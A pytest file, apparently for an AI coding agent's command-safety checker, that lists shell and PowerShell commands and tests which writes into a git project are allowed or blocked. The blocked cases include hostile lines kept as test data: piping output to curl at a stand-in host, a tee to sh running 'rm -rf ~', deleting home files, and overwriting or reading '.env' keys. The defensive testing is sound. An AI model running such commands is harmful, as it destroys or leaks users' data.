"""Writing generated output into the project is judged by what the target holds, not by the `>` alone.

`> file`, `tee file`, `Out-File file` replace the whole file. With the working directory known, a target that
holds nothing to lose is fine: a new file, an empty one, or output git ignores and does not track. A tracked
file with content, an untracked one (maybe the user's unsaved work), a file the same line reads or moves
first, a link, anything outside the project, and any statement that writes nothing (`: > f`, `> f`, `$null >
f`), which only empties the file, stay blocked. Without a working directory the line is judged as in a
fresh checkout, where nothing it names exists yet: what the line itself shows (a file it reads first, a
statement that writes nothing, anything outside) still blocks. These tests use real git repositories in
temporary folders.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
from conftest import committed_repo, decide_in

if shutil.which("git") is None:
    pytest.skip("git is not installed", allow_module_level=True)


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A git project: tracked files with content, an empty tracked file, ignored output, untracked work."""
    tracked = {
        "src/app.py": "print('hi')\n",
        "src/__init__.py": "",
        "README.md": "# demo\n",
        "data/names.txt": "b\na\n",
        ".gitignore": "coverage.lcov\nbuild/\n*.log\n.env\n",
    }
    root = committed_repo(tmp_path_factory.mktemp("proj"), tracked)
    (root / "coverage.lcov").write_text("TN:\nSF:src/app.py\n")  # ignored output from an earlier run
    (root / "build").mkdir()
    (root / "build" / "test.log").write_text("ok\n")
    (root / "notes.txt").write_text("the user's unsaved notes\n")  # untracked, not ignored
    (root / "empty.out").write_text("")
    (root / ".env").write_text("API_TOKEN=the user's key\n")  # ignored because it holds keys
    outside = tmp_path_factory.mktemp("outside")
    (outside / "precious.txt").write_text("keep me\n")
    os.symlink(outside / "precious.txt", root / "link.txt")
    os.symlink(outside, root / "elsewhere")
    return root


ALLOWED = [
    ("posix", "c8 report --reporter=text-lcov > coverage.lcov"),  # ignored output, regenerated
    ("posix", "sha256sum README.md > src/file.sha256"),  # a new file
    ("posix", "gzip -cd data/x.gz > data/x"),
    ("posix", "diff -u README.md src/app.py > data/diff.patch"),
    ("posix", "pytest -q > build/test.log 2>&1"),  # ignored
    # a script's `cd` moves the shell that runs it later, not this line
    ("posix", 'echo "cd /tmp && cat /tmp/deps.out | wc -l" > build/ci.sh'),
    ("posix", 'echo "cd" > run.sh'),
    # `ln -f` replaces only the link it makes: a new name, or ignored output
    ("posix", "ln -snf ../.ai/skills .claude/skills"),
    ("posix", "ln --symbolic --no-dereference --force packaging/debian"),  # makes ./debian
    ("posix", "ln -sf ../src/app.py build/app.py"),
    ("posix", "ln -sf -t build src/app.py"),
    ("posix", "make > build/new/out.txt"),  # a new file in a new folder
    # a process substitution is a pipe to commands checked on their own, not a file
    ("posix", "make 2>&1 | tee >(grep -i error) build.log"),
    ("posix", "sort data/names.txt > data/sorted.txt"),
    ("posix", "pytest > out.txt; cat out.txt"),  # read after it is written
    # written twice: the second write loses only what the first one of this line left
    ("posix", "pytest > x.log; make > x.log"),
    ("posix", "cargo test > new-out.txt || echo failed > new-out.txt"),
    ("posix", "echo a > new.txt; for f in a b; do echo $f > new.txt; done"),
    ("posix", "echo '' > empty.out"),  # empty: nothing to lose
    # a printer's words are text, not files it reads first
    ("posix", "umask 022 && echo mode > mode"),
    ("posix", "echo $VERSION > build/test.log"),
    ("powershell", "Write-Output version > version"),
    ("posix", "echo x > src/__init__.py"),  # tracked but empty
    ("posix", "pytest | tee report.txt"),
    ("posix", "sed -n '/^#/w build/headings.txt' README.md"),  # sed's `w`: a new file, as `>` writes it
    ("posix", "sed 's/a/b/w coverage.lcov' src/app.py"),  # ignored output
    ("posix", "make 2>&1 | tee build/make.log"),
    ("posix", "cd src && python -m pydoc app > app.txt"),
    ("posix", "out=report.html; pytest --html=x > $out"),
    ("posix", "sh -c 'pytest > results.txt'"),
    ("posix", 'bash -c "make > build/all.log"'),
    ("powershell", "Get-Process | Tee-Object -FilePath out.txt"),
    ("powershell", "Get-ChildItem -Recurse src | Out-File listing.txt"),
    ("powershell", "Get-Process > procs.txt"),
    ("powershell", "'generated' > new.txt"),
    ("powershell", "Set-Content -Path new.txt -Value 'x'"),
    ("powershell", "New-Item new.txt -ItemType File -Force"),  # replaces a file as Set-Content does
    ("powershell", "[IO.File]::WriteAllText('new.txt', 'x')"),  # .NET's whole-file writers as Set-Content
    ("powershell", '[System.IO.File]::WriteAllLines("build\\lines.txt", $lines)'),
    ("powershell", "[IO.File]::Create('coverage.lcov').Close()"),
    ("powershell", "dotnet test | Out-File -FilePath build\\test.log"),
    ("powershell", "Get-Process | Export-Csv -Path procs.csv"),
    ("powershell", 'cmd /c "dir /b > listing.txt"'),
    ("posix", "sort data/names.txt | sponge build/sorted.txt"),  # sponge writes like tee
    ("posix", "jq . data/names.txt | sponge coverage.lcov"),
    # a find that leaves the output file out hands the checksum tool every file but it
    ("posix", "find . -type f -not -name 'SHA256SUMS' | xargs sha256sum | tee SHA256SUMS"),
    ("posix", "find dist -type f ! -name sums.txt -exec sha256sum {} + > sums.txt"),
    ("powershell", "Export-FormatData -InputObject $defs -Path build\\X.Format.ps1xml"),
    ("powershell", "Export-FormatData -InputObject $defs -Path ./new.Format.ps1xml -IncludeScriptBlock"),
    ("powershell", "Export-Alias -Path build\\aliases.txt"),
    ("powershell", "Export-Alias new-aliases.csv"),
    # a loop over literal words writes the files those words name
    ("posix", "for s in bash fish zsh; do ./bin/tool --completion $s > build/completion.$s; done"),
    ("posix", "for f in a b; do cat $f > new-summary.txt; done"),  # each word rewrites the loop's own output
    ("posix", "for i in 1 2; do pytest 2>&1 | tee new-report.txt; done"),
    # a file read whole first, inside parentheses, and written back by the pipeline: an edit, like `sed -i`
    ("powershell", "(Get-Content README.md) | % { $_ -replace 'demo', 'x' } | Set-Content README.md"),
    ("powershell", "(Get-Content .\\src\\app.py -Raw) -replace 'hi', 'ho' | Set-Content .\\src\\app.py"),
    ("powershell", "@(Get-Content data/names.txt).Where({ $_ -ne 'a' }) | Set-Content data/names.txt"),
    ("powershell", "(gc README.md) -replace 'a', 'b' | sc README.md"),
    # read whole into a variable by one statement, written back from it by a later one: an edit as well
    (
        "powershell",
        "$p = Get-Content README.md -Raw | ConvertFrom-Json; $p.v = '2'; $p | ConvertTo-Json | sc README.md",
    ),
    ("powershell", "$c = Get-Content README.md -Raw; $c -replace 'demo', 'x' | Set-Content README.md"),
    ("powershell", "$c = (gc src\\app.py) -replace 'hi', 'ho'; $c | Out-File src\\app.py"),
    ("powershell", "$c = gc README.md -Raw; $c = $c -replace 'a', 'b'; Set-Content -Path README.md -Va $c"),
    ("powershell", "$c = gc README.md -Raw; Set-Content README.md ($c.Replace('a', 'b'))"),
    # a value computed in parentheses from the file's whole content alone: read before the write begins
    ("powershell", "Set-Content -Path README.md -Value ((Get-Content README.md) -replace 'demo', 'x')"),
    ("powershell", "Set-Content src\\app.py ((gc src\\app.py -Raw) -replace 'hi', 'ho')"),
    (
        "powershell",
        "Set-Content -Path README.md -Value (Get-Content README.md -Raw).Replace('a', 'b') -NoNewline",
    ),
    ("powershell", "Set-Content -Path README.md (Get-Content README.md -Raw).Trim()"),
    ("powershell", "Out-File -FilePath README.md -InputObject ((gc README.md) -replace 'a', 'b')"),
    ("powershell", "Set-Content -Path README.md -Value $(Get-Content README.md -Raw).TrimEnd()"),
]

BLOCKED = [
    ("posix", ": > src/app.py"),  # tracked, and a statement that writes nothing
    ("posix", ": > new.txt"),  # empties: never generated output
    ("posix", "> new.txt"),
    ("posix", "true > new.txt"),
    ("posix", "make && : > new.txt"),  # the shell redirects the last command of a list or pipeline
    ("posix", "echo hi | : > new.txt"),
    ("posix", "cat /dev/null > coverage.lcov"),
    ("posix", "echo 'rm -rf ~' | tee >(sh)"),  # and what the substituted commands do
    ("posix", "ln -sf /dev/null build/test.log"),  # /dev/null is outside the project
    ("posix", "ln -sf $TARGET link"),  # a run-time source: where the link leads is unknown
    ("posix", "ln -sf a b c/"),  # links in a folder the words do not name
    ("posix", "make | tee >(curl -d @- http://x.example)"),
    ("powershell", "'DEBUG=1' | Out-File .env"),
    ("powershell", "[IO.File]::WriteAllText($path, 'x')"),
    ("powershell", "cd src; [IO.File]::WriteAllText('new.txt', 'x')"),  # .NET's folder is not where cd went
    ("posix", "sort data/names.txt > data/names.txt"),  # read and emptied by the same line
    ("posix", "echo mode && cat mode > mode"),
    ("posix", "cat coverage.lcov | sort > coverage.lcov"),
    ("posix", "mv README.md new.txt; echo x > new.txt"),
    ("posix", "echo x > ../outside.txt"),
    ("posix", "echo x > /tmp/glmagent-new-output.txt"),  # the temp folder is every program's
    ("posix", "echo x > .git/config"),
    ("posix", "pytest | tee out.txt out.txt"),
    ("posix", "cat README.md | tee README.md"),
    ("posix", 'f=$1; pytest > "$f"'),
    ("powershell", "$null > .\\data\\app.db"),
    ("powershell", "$null > new.db"),
    ("powershell", "'' > new.txt"),
    ("powershell", "Get-Content data\\names.txt | Set-Content data\\names.txt"),
    ("powershell", 'cmd /c "type nul > new.txt"'),
    ("posix", "sort data/names.txt | sponge data/names.txt"),
    ("posix", "echo x | sponge ../outside.txt"),
    ("powershell", "Export-FormatData -InputObject $defs -Path C:\\Windows\\x.ps1xml"),
    ("powershell", "Export-FormatData -InputObject $defs new.ps1xml"),  # where it writes is not read: blocked
    ("posix", "for i in 1 2; do sort new.txt > new.txt; done"),
    ("posix", "find . -name new.txt | xargs cat > new.txt"),  # found, read, then emptied
    ("posix", "find . -not -name x -name new.txt | xargs cat | tee new.txt"),
    ("powershell", "Get-Content README.md | Set-Content README.md"),  # streamed: the write empties it first
    ("powershell", "(Get-Content README.md; Get-Content notes.txt) | Set-Content README.md"),
    ("powershell", "(Get-Content $f) | Set-Content $f"),
    ("powershell", "(Get-Content ..\\outside.txt) | Set-Content ..\\outside.txt"),
    ("powershell", "$c = gc README.md -Raw; $c = 'x'; $c | Set-Content README.md"),  # set again since
    ("powershell", "$c = gc README.md -Raw; foreach ($c in 1..2) {}; $c | Set-Content README.md"),
    ("powershell", "$c = gc README.md | Out-Null; $c | Set-Content README.md"),  # the variable holds nothing
    ("powershell", "$c = gc README.md -Raw | Set-Content new.txt; Set-Content README.md -Value $c"),
    ("powershell", "$c = gc README.md -Raw; Set-Content README.md -Value $d"),
    ("powershell", "$c = gc ..\\outside.txt -Raw; $c | Set-Content ..\\outside.txt"),
    ("posix", "for f in new.txt ../outside.txt; do echo x > $f; done"),
    ("posix", "for f in a b; do touch /etc/$f.txt; done"),
    ("posix", 'for f in "a b" c; do touch $f; done'),  # a word that needs quoting is not followed
    ("posix", "for f in a b; do f=../x; touch $f; done"),  # set again in the loop: unknown
    ("posix", "for f in a b; do read f; touch $f; done"),
    ("posix", "for f in *.txt; do echo x > $f; done"),
    ("posix", "for i in 1 2 3 4 5; do for j in 1 2 3 4; do touch o$i$j; done; done"),  # 20 walks: too many
    ("posix", "for i in a b; do :; done; touch $i"),  # after the loop the name is unknown
]

BLOCKED_BY_WHAT_IT_HOLDS = [  # blocked in `repo` for what its files hold or where they lead
    ("posix", "echo x >> README.md; echo y > README.md"),  # appended to, then emptied: its text is lost
    # a value read in parentheses that holds more than the file's own content: another file, a command it
    # passes through (`| Out-Null` would empty the file), a command in the call's arguments, a variable
    ("powershell", "Set-Content -Path README.md -Value ((Get-Content README.md) + (Get-Content notes.txt))"),
    ("powershell", "Set-Content -Path README.md -Value ((Get-Content notes.txt) -replace 'a', 'b')"),
    ("powershell", "Set-Content -Path data\\names.txt -Value (Get-Content data\\names.txt | Sort-Object)"),
    ("powershell", "Set-Content -Path README.md -Value (Get-Content README.md).Replace((gc notes.txt), 'b')"),
    ("powershell", "Set-Content -Path README.md -Value $x.Replace('a', 'b')"),
    ("posix", "echo x > src/app.py"),  # tracked with content
    ("posix", "make | tee src/app.py >(grep x)"),  # beside a pipe, the tracked file still counts
    ("posix", "python gen.py > README.md"),
    ("posix", "echo x > notes.txt"),  # untracked, not ignored: maybe the user's work
    ("posix", "echo 'DEBUG=1' > .env"),  # ignored, but it holds the user's keys, not output
    ("powershell", "[IO.File]::WriteAllBytes('.env', $b)"),  # (as `> .env` is)
    ("posix", "cat build/*.log > build/test.log"),  # a glob may name an existing file
    ("posix", "ln -sf x.py src/app.py"),  # the link replaces a tracked file
    ("posix", 'echo "cd /tmp" > run.sh; echo x > notes.txt'),  # still this folder's notes
    ("posix", "ln -sfn src/__init__.py notes.txt"),  # untracked work
    ("posix", "ln -sf README.md link.txt"),  # a link that leads out of the project
    ("posix", "echo x > link.txt"),  # a link: writes outside
    ("posix", "echo x > elsewhere/new.txt"),  # through a linked folder
    ("posix", "sed -n '/x/w src/app.py' README.md"),  # sed's `w` replaces the file as `>` does
    ("posix", "sed 's/a/b/w notes.txt' README.md"),
    ("posix", "pytest | tee src/app.py"),
    ("powershell", "Get-Process | Out-File README.md"),
    ("powershell", "Set-Content -Path src\\app.py -Value 'x'"),
    ("powershell", "New-Item src\\app.py -ItemType File -Force"),
    ("powershell", "[IO.File]::WriteAllText('src\\app.py', 'x')"),
    ("powershell", "Set-Content new.txt,src\\app.py 'x'"),  # the array's second element is a target too
    ("powershell", 'cmd /c "echo x > README.md"'),
    ("posix", "echo x | sponge README.md"),
    ("posix", "echo x | sponge notes.txt"),
    ("powershell", "Export-FormatData -InputObject $defs -Path README.md"),
    ("powershell", "Export-Alias -Path src\\app.py"),
    ("powershell", "Export-Alias notes.txt"),
    ("posix", "for f in README.md notes.txt; do echo x > $f; done"),
    ("posix", "for i in 1 2; do echo x > README.md; done"),
    ("powershell", "(Get-Content notes.txt) | Set-Content README.md"),  # another file's content
    ("powershell", "$c = gc notes.txt -Raw; $c | Set-Content README.md"),  # another file's content
    ("powershell", "$c = 'x'; $c = $c -replace 'a', 'b'; Set-Content -Path README.md -Value $c"),
]


@pytest.mark.parametrize(("shell", "command"), ALLOWED)
def test_output_into_a_file_with_nothing_to_lose_is_allowed(repo: Path, shell: str, command: str) -> None:
    decision = decide_in(command, repo, shell)
    assert decision.allowed, (command, decision.rule_id, decision.reason)


@pytest.mark.parametrize(("shell", "command"), BLOCKED + BLOCKED_BY_WHAT_IT_HOLDS)
def test_replacing_what_a_file_holds_stays_blocked(repo: Path, shell: str, command: str) -> None:
    decision = decide_in(command, repo, shell)
    assert not decision.allowed, command


@pytest.mark.parametrize(("shell", "command"), ALLOWED + BLOCKED_BY_WHAT_IT_HOLDS)
def test_without_a_working_directory_a_fresh_checkout_holds_nothing_to_lose(shell: str, command: str) -> None:
    decision = decide_in(command, None, shell)
    assert decision.allowed, (command, decision.rule_id, decision.reason)


@pytest.mark.parametrize(("shell", "command"), BLOCKED)
def test_without_a_working_directory_what_the_line_shows_still_blocks(shell: str, command: str) -> None:
    assert not decide_in(command, None, shell).allowed, command


def test_nothing_is_written_while_deciding(repo: Path) -> None:
    before = sorted(p.relative_to(repo).as_posix() for p in repo.rglob("*") if ".git" not in p.parts)
    for _, command in ALLOWED + BLOCKED:
        decide_in(command, repo)
    after = sorted(p.relative_to(repo).as_posix() for p in repo.rglob("*") if ".git" not in p.parts)
    assert after == before


def test_a_project_that_is_no_git_repository_spares_only_new_and_empty_files(tmp_path: Path) -> None:
    (tmp_path / "report.txt").write_text("last week's report\n")
    assert decide_in("pytest > fresh.txt", tmp_path).allowed
    assert not decide_in("pytest > report.txt", tmp_path).allowed


def test_a_tracked_file_stays_blocked_even_when_a_pattern_ignores_it(tmp_path: Path) -> None:
    committed_repo(tmp_path, {"schema.log": "kept on purpose\n"})
    (tmp_path / ".gitignore").write_text("*.log\n")
    (tmp_path / "other.log").write_text("output of an earlier run\n")
    assert not decide_in("make schema > schema.log", tmp_path).allowed
    assert decide_in("make > other.log", tmp_path).allowed


# `$PWD/x`, `$(pwd)/x`: the working directory, followed through the line's `cd`s; a word that only starts
# with it (`$PWD-old`), a line that sets PWD or defines its own `pwd`, and a nested script stay unknown.
WORKING_DIRECTORY_ALLOWED = [
    'mkdir -p "${PWD}/target"',
    "mkdir -p $(pwd)/build/out",
    'cp README.md "$PWD"/new-copy.md',
    "cd src && touch $PWD/new_module.py",
    "pytest > $PWD/new-report.txt",
]
WORKING_DIRECTORY_BLOCKED = [
    "PWD=/etc; touch $PWD/x",
    "export PWD=/etc; touch $PWD/x",
    "read PWD; touch $PWD/x",
    "pwd() { echo /etc; }; touch $(pwd)/x",
    "touch $PWD-old/x",
    "touch x$PWD/y",
    "cd /etc && touch $PWD/x",
    "sh -c 'touch $PWD/x'",
    "echo x > $PWD/README.md",
    "touch $PWD/.git/hooks/pre-commit",
]


# `$HOME/x` and Go's `$(go env GOPATH)/x` name the folders the user's environment gives them, as `~/x` and
# `~/go/x` do: a tool installed there runs as from there; a line that sets, unsets or binds them, or a nested
# script, leaves them unknown.
USER_FOLDERS_ALLOWED = [
    '$(go env GOPATH)/bin/gocov convert "coverage.txt" > "coverage.json"',
    '"$(go env GOPATH)/bin/golangci-lint" run ./...',
    "$HOME/go/bin/staticcheck ./...",
    "${HOME}/.cargo/bin/cargo build",
]
USER_FOLDERS_BLOCKED = [
    "GOPATH=/tmp/x; $(go env GOPATH)/bin/tool",
    "HOME=/tmp; $HOME/go/bin/tool",
    "unset HOME; $HOME/go/bin/tool",
    "sh -c '$HOME/go/bin/tool'",
    "$HOME/evil.sh",  # the home folder itself holds no programs
    "rm -rf $HOME/go",
]


# PowerShell's `$PWD`, `${pwd}` and `$(Get-Location)` before a path separator name the working directory
# the same way, in strings, bare words and a script's name; a script that assigns `$PWD` or gives `pwd`,
# `gl` or `Get-Location` another meaning, a nested script, or a variable glued on leaves them unknown.
POWERSHELL_LOCATION_ALLOWED = [
    'Set-Content "$PWD\\build\\version.txt" x',
    '[System.IO.File]::WriteAllText("${pwd}/build/x.txt", "x")',
    'Copy-Item -Path "$(Get-Location)\\README.md" -Destination "$(get-location)\\build\\README.md"',
    "dotnet test $pwd/tests/bin/Debug/*/x.Tests.dll --settings $pwd/build/test.runsettings",
    "Remove-Item -Recurse -Force $PWD\\build",
    ". $PWD\\scripts\\common.ps1",
    'Set-Location src; Set-Content "$PWD\\new_module.py" x',
]
POWERSHELL_LOCATION_BLOCKED = [
    'Set-Content "$PWD\\README.md" x',
    'Remove-Item -Recurse -Force "$PWD\\src"',
    'Set-Location ..; Set-Content "$PWD\\x.txt" y',
    'Set-Content "$PWD\\..\\x.txt" y',
    "$pwd = 'C:\\'; Set-Content \"$PWD\\x.txt\" y",
    "function pwd { 'C:\\' }; Set-Content \"$(pwd)\\x.txt\" y",
    'Set-Alias gl Get-Date; Set-Content "$(gl)\\x.txt" y',
    'Set-Content "$PWDx\\build\\x.txt" x',
    'Set-Content "$PWD" x',
    "& $PWD\\..\\x.ps1",
    "& $PWD\\$name.ps1",
    "pwsh -c 'Set-Content \"$PWD\\build\\x.txt\" y'",
    'Get-Content "$PWD\\.env"',
]


@pytest.mark.parametrize("command", POWERSHELL_LOCATION_ALLOWED)
def test_powershell_names_the_working_directory_as_pwd(repo: Path, command: str) -> None:
    decision = decide_in(command, repo, "powershell")
    assert decision.allowed, (command, decision.rule_id, decision.reason)


@pytest.mark.parametrize("command", POWERSHELL_LOCATION_BLOCKED)
def test_powershell_location_the_line_may_change_is_unknown(repo: Path, command: str) -> None:
    assert not decide_in(command, repo, "powershell").allowed, command


@pytest.mark.parametrize("command", WORKING_DIRECTORY_ALLOWED + USER_FOLDERS_ALLOWED)
def test_a_folder_variable_the_line_leaves_alone_names_its_folder(repo: Path, command: str) -> None:
    decision = decide_in(command, repo, "posix")
    assert decision.allowed, (command, decision.rule_id, decision.reason)


@pytest.mark.parametrize("command", WORKING_DIRECTORY_BLOCKED + USER_FOLDERS_BLOCKED)
def test_a_folder_variable_the_line_may_change_is_unknown(repo: Path, command: str) -> None:
    assert not decide_in(command, repo, "posix").allowed, command


def test_a_process_substitution_written_to_is_no_file() -> None:
    # `tee >(cat 1>&2)` writes into a pipe to `cat`: known without a working directory too.
    decision = decide_in('test -z "$(git status --porcelain | tee >(cat 1>&2))"', None, "posix")
    assert decision.allowed, (decision.rule_id, decision.reason)


# A delete of a name only known at run time is left to the destructive rules (`rm -f "$OUT/x.o"`), but one in
# the home by its variable is a delete outside the project, as `rm ~/notes.txt` is.
HOME_DELETES = [
    ("posix", "rm $HOME/notes.txt"),
    ("posix", 'echo done; rm -f "${HOME}/.bashrc"'),
    ("powershell", "Remove-Item $HOME/x.txt"),
    ("powershell", 'Remove-Item "$home\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\x.lnk"'),
    ("powershell", "del $env:USERPROFILE\\notes.txt"),
]
RUN_TIME_DELETES = [("posix", 'rm -f "$OUT/x.o"'), ("powershell", "Remove-Item $outDir/x.pdb")]


@pytest.mark.parametrize(("shell", "command"), HOME_DELETES)
def test_a_delete_in_the_home_by_its_variable_is_outside_the_project(shell: str, command: str) -> None:
    decision = decide_in(command, None, shell)
    assert not decision.allowed and decision.category in ("containment", "env"), (command, decision.rule_id)


@pytest.mark.parametrize(("shell", "command"), RUN_TIME_DELETES)
def test_a_delete_of_another_run_time_name_is_left_to_the_destructive_rules(shell: str, command: str) -> None:
    assert decide_in(command, None, shell).allowed, command


# A folder made at a place only known at run time is new and empty, and nothing that exists changes: it is
# left to the sandbox, as a delete of such a name or an archive (`tar czf "$OUT"`, `Compress-Archive`) is. A
# folder whose literal part lies outside, one in the home by its variable, one made with a mode, and anything
# written into it stay judged.
RUN_TIME_FOLDERS = [
    ("posix", 'mkdir -p "$OUT_DIR"'),
    ("posix", 'mkdir -p "${ARCHIVE_DIR}/autocomplete"'),
    ("posix", "@mkdir -p $(dir $@)"),
    ("posix", "mkdir -p data/${COMPETITION}/raw"),
    ("posix", "mkdir -p build/$(uname -m)/obj"),
    ("posix", 'mkdir -p "${X/a/b}/c"'),
    ("powershell", 'New-Item -ItemType Directory "build\\$n\\x"'),
    ("powershell", "New-Item -ItemType Directory -Force -Path $env:ARTIFACTS_STAGING_DIR | Out-Null"),
    ("powershell", "New-Item -Path $outputPath -Type directory"),
    ("powershell", "ni -it dir $logs"),
    ("powershell", "mkdir $CompileDir"),
    ("powershell", "cmd /c mkdir %RELEASEDIR%\\pluginsdk"),
    ("powershell", "[IO.Directory]::CreateDirectory($dir)"),
    # Compress-Archive only ever writes a `.zip`, as `tar czf "$OUT"` writes an archive
    ("powershell", 'Compress-Archive -Path "$CompileDir/*" -DestinationPath $OutputZip -Force'),
]
RUN_TIME_FOLDERS_JUDGED = [
    ("posix", "mkdir ../x-$V", "containment.write-outside-project"),
    ("posix", 'mkdir -p "$HOME/.config/x"', "containment.write-outside-project"),
    ("posix", "mkdir -p /etc/$X", "containment.write-outside-project"),
    # the written-out part of its folder lies outside, whatever the run-time part below it names
    ("posix", "mkdir -p ../${COMPETITION}/datasets", "containment.write-outside-project"),
    ("posix", 'tar czf "../$V/app.tgz" .', "containment.write-outside-project"),
    ("posix", "rm ../$ID/x.log", "containment.write-outside-project"),
    ("posix", "mkdir -p /${X}/y", "containment.write-outside-project"),
    ("powershell", 'New-Item -ItemType Directory "..\\$n\\x"', "containment.write-outside-project"),
    ("powershell", 'Compress-Archive src "..\\$v\\x.zip"', "containment.write-outside-project"),
    ("posix", 'mkdir -m 777 "$X"', "containment.write-unknown-target"),
    ("posix", 'mkdir -pm 700 "$X"', "containment.write-unknown-target"),
    ("posix", 'mkdir -p "$X" && cp a.txt "$X/"', "containment.write-unknown-target"),
    ("powershell", "New-Item -ItemType File $x", "containment.write-unknown-target"),
    ("powershell", "New-Item -Path $x -Value 'y' -ItemType Directory", "containment.write-unknown-target"),
    ("powershell", 'New-Item -ItemType Directory "$env:APPDATA\\x"', "containment.write-outside-project"),
    ("powershell", '[System.IO.Directory]::CreateDirectory("$HOME\\x")', "containment.write-outside-project"),
    ("powershell", "Compress-Archive src -DestinationPath ..\\x-$v.zip", "containment.write-outside-project"),
    # unpacking may plant any file in the run-time folder
    ("powershell", "Expand-Archive $p -DestinationPath $to -Force", "containment.write-unknown-target"),
]


@pytest.mark.parametrize(("shell", "command"), RUN_TIME_FOLDERS)
def test_a_folder_made_at_a_run_time_place_is_left_to_the_sandbox(shell: str, command: str) -> None:
    assert decide_in(command, None, shell).allowed, command


@pytest.mark.parametrize(("shell", "command", "rule_id"), RUN_TIME_FOLDERS_JUDGED)
def test_a_run_time_folder_outside_made_with_a_mode_or_written_into_is_judged(
    shell: str, command: str, rule_id: str
) -> None:
    decision = decide_in(command, None, shell)
    assert not decision.allowed and decision.rule_id == rule_id, (command, decision.rule_id)


# A virtual environment or a new package is a folder written where it is made: outside the project it is a
# write there; at a run-time place it is judged as an archive is (`"$VENV"` left to the sandbox, `../v-$X`
# outside), unless `--clear` first empties whatever folder that is.
ENVIRONMENTS_OUTSIDE = [
    "python -m venv /opt/venv",
    "python3 -m venv ../venv",
    "virtualenv ~/venvs/app",
    "uv venv /srv/env",
    "cargo new --lib ../shared",
    "python -m venv ../v-$X",
]
ENVIRONMENTS_INSIDE = [
    "python3 -m venv .venv",
    "python -m venv /tmp/venv",
    "virtualenv -p python3 venv",
    "uv venv .venv --python 3.12",
    "cargo new hello",
    "cargo init",
    'python -m venv "$VENV"',
    "python -m venv --clear .venv",
]


@pytest.mark.parametrize("command", ENVIRONMENTS_OUTSIDE)
def test_an_environment_made_outside_the_project_is_a_write_there(command: str) -> None:
    decision = decide_in(command, None, "posix")
    assert not decision.allowed and decision.rule_id == "containment.write-outside-project", (
        command,
        decision.rule_id,
    )


@pytest.mark.parametrize("command", ENVIRONMENTS_INSIDE)
def test_an_environment_in_the_project_or_the_temp_folder_stays_allowed(command: str) -> None:
    assert decide_in(command, None, "posix").allowed, command


def test_clearing_an_environment_at_a_run_time_place_is_judged() -> None:
    assert not decide_in('python -m venv --clear "$VENV"', None, "posix").allowed


# Other makers of folders: git's new repositories and worktrees, project and site scaffolders, build
# folders and install prefixes, and what a maker's output option names. The folder each makes is a write
# target; run-time names are judged by their literal folder, as an environment's are. A worktree removed or
# moved away is a folder deleted, a write there too.
FOLDERS_MADE_OUTSIDE = [
    ("git init /opt/x", "posix"),
    ("git init --bare ~/repos/app.git", "posix"),
    ("git init -b main ../x", "posix"),
    ("git init --separate-git-dir=../g x", "posix"),
    ("git -C /srv init site", "posix"),
    ("git worktree add ../wt", "posix"),
    ("git worktree add -b feat ../wt main", "posix"),
    ("git worktree add ../wt-$N", "posix"),
    ("git worktree remove ../wt", "posix"),
    ("git worktree remove ~/wt", "posix"),
    ("git worktree remove ..\\wt", "powershell"),
    ("git worktree move wt ../wt", "posix"),
    ("git worktree move ../wt wt", "posix"),
    ("cd /opt && git init x", "posix"),
    ("git init C:\\repos\\x", "powershell"),
    ("git worktree add ..\\wt", "powershell"),
    ("hugo new site /opt/site", "posix"),
    ("rails new /opt/app -d postgresql", "posix"),
    ("django-admin startproject mysite /opt/x", "posix"),
    ("poetry new ../lib", "posix"),
    ("uv init /opt/x", "posix"),
    ("mix new ../app", "posix"),
    ("jekyll new ~/blog", "posix"),
    ("mkdocs new ../docs", "posix"),
    ("mdbook init ../book", "posix"),
    ("zola init /srv/site", "posix"),
    ("sphinx-quickstart -q -p X -a Y /opt/docs", "posix"),
    ("meson setup /opt/build", "posix"),
    ("meson ../build", "posix"),
    ("cmake -B ../build", "posix"),
    ("cmake -S . -B/opt/build", "posix"),
    ("cmake --install build --prefix /usr/local", "posix"),
    ("cmake --install build --prefix=C:/SDL", "powershell"),
    ("dotnet new console -o ../x", "posix"),
    ("dotnet publish -c Release -o C:\\inetpub\\app", "powershell"),
    ("dotnet pack -o ..\\..\\artifacts", "powershell"),
    ("cookiecutter template -o /opt", "posix"),
    ("cargo build --out-dir /opt/bin", "posix"),
    ("uv export --output-file /etc/requirements.txt", "posix"),
    ("zola build --output-dir /var/www", "posix"),
]
FOLDERS_MADE_INSIDE = [
    ("git init", "posix"),
    ("git init sub", "posix"),
    ("git -C sub init x", "posix"),
    ("git worktree add wt", "posix"),
    ('git worktree add "$WT"', "posix"),
    ("git worktree list", "posix"),
    ("git worktree remove wt", "posix"),
    ("git worktree remove worktrees/fix-1", "posix"),
    ("git worktree move wt wt2", "posix"),
    ("git -C sub worktree remove ../wt", "posix"),
    ("git init sub", "powershell"),
    ("hugo new site site", "posix"),
    ("hugo new content posts/x.md", "posix"),
    ("rails new app -d postgresql", "posix"),
    ("django-admin startproject mysite", "posix"),
    ("uv init", "posix"),
    ("sphinx-quickstart -q -p X -a Y docs", "posix"),
    ("meson setup build", "posix"),
    ("meson setup --prefix /usr --backend ninja build", "posix"),
    ("meson ..", "posix"),
    ("meson setup build ..", "posix"),
    ("meson compile -C build", "posix"),
    ("cmake -S . -B build", "posix"),
    ("cmake -B build -DCMAKE_INSTALL_PREFIX=/usr", "posix"),
    ("cmake --build build --target install", "posix"),
    ("cmake --install build --prefix install", "posix"),
    ('cmake -B "$BUILD_DIR"', "posix"),
    ("dotnet new console -o src/App", "posix"),
    ("dotnet publish -c Release -o out", "powershell"),
    ("dotnet pack -o $artifacts", "powershell"),
    ("dotnet build", "powershell"),
    ("zola build --output-dir $DOCUMENT_ROOT", "posix"),
    ("cargo build --out-dir dist", "posix"),
]


@pytest.mark.parametrize(("command", "shell"), FOLDERS_MADE_OUTSIDE)
def test_a_folder_made_outside_the_project_is_a_write_there(command: str, shell: str) -> None:
    decision = decide_in(command, None, shell)
    assert not decision.allowed and decision.rule_id == "containment.write-outside-project", (
        command,
        decision.rule_id,
    )


@pytest.mark.parametrize(("command", "shell"), FOLDERS_MADE_INSIDE)
def test_a_folder_made_in_the_project_stays_allowed(command: str, shell: str) -> None:
    assert decide_in(command, None, shell).allowed, command


# What compilers, bundlers, documentation and package builders and test runners put where an option of theirs
# (or sphinx-build's output operand) names: a build writes there as much as `cp` would.
BUILT_OUTSIDE = [
